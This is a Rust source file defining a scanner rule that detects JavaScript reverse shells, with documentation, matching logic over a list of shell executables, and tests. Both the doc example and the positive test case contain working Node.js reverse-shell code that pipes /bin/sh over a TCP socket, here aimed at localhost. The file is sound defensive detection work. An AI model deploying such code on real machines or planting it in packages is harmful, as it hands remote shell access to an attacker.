use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds JavaScript reverse shells: a file that opens a TCP socket
    /// (`net.connect`, `new net.Socket`) and starts a bare shell (`sh`,
    /// `/bin/bash`, `cmd.exe`, `powershell`) whose input and output go to it.
    ///
    /// ## Why is this bad?
    /// It gives whoever listens at the other end an interactive shell on the
    /// machine that loaded the package, with the user's rights.
    ///
    /// ## Example
    /// ```js
    /// const c = new net.Socket(); c.connect(4444, '127.0.0.1', () => {
    ///   const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1059 (Command and Scripting Interpreter).
    ReverseShell {
        id: "exec/reverse-shell",
        severity: Critical,
        status: Stable,
        summary: "A file connects a socket to a shell (reverse shell)",
    }
}

fn is_bare_shell(cmd: &str) -> bool {
    let mut words = cmd.split_whitespace();
    let exe = words.next().unwrap_or("").to_ascii_lowercase();
    let exe = exe.rsplit(['/', '\\']).next().unwrap_or("");
    let rest: Vec<&str> = words.collect();
    matches!(
        exe,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "cmd"
            | "cmd.exe"
            | "powershell"
            | "powershell.exe"
            | "pwsh"
    ) && rest
        .iter()
        .all(|w| matches!(*w, "-i" | "-l" | "*" | "/q" | "-nop" | "-noprofile"))
}

impl Rule for ReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for p in &ctx.facts.processes {
            let Some(cmd) = &p.command else { continue };
            if !is_bare_shell(cmd) || cmd.trim() == "*" {
                continue;
            }
            let socket = ctx.facts.network.iter().any(|n| {
                n.at.location.path == p.at.location.path
                    && n.api.as_deref().is_some_and(|a| {
                        a.starts_with("net.") || a == "tls.connect" || a.starts_with("socket.")
                    })
            });
            if socket {
                out.push(
                    ctx.at(
                        Finding::new(
                            Self::META.id,
                            Severity::Critical,
                            format!("starts `{cmd}` next to a raw socket: a reverse shell"),
                        ),
                        &p.at.location,
                    )
                    .at_install_time(p.at.install_time)
                    .with_capability("process"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&ReverseShell::META).test(
            &[Case::Js(
                "const net = require('net'), { spawn } = require('child_process');\nconst c = new net.Socket();\nc.connect(4444, '127.0.0.1', () => {\n  const sh = spawn('/bin/sh', []);\n  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c);\n});",
            )],
            &[
                Case::Js("const net = require('net'); const { spawn } = require('child_process');\nnet.createServer().listen(8080);\nspawn('/bin/sh', ['-c', 'make build']);"),
                Case::Js("require('child_process').spawn('bash', ['-i']);"),
                Case::Js("const net = require('net');\nconst s = net.connect(sock);\nrequire('child_process').spawn(process.execPath, [entry]);"),
            ],
        );
    }
}
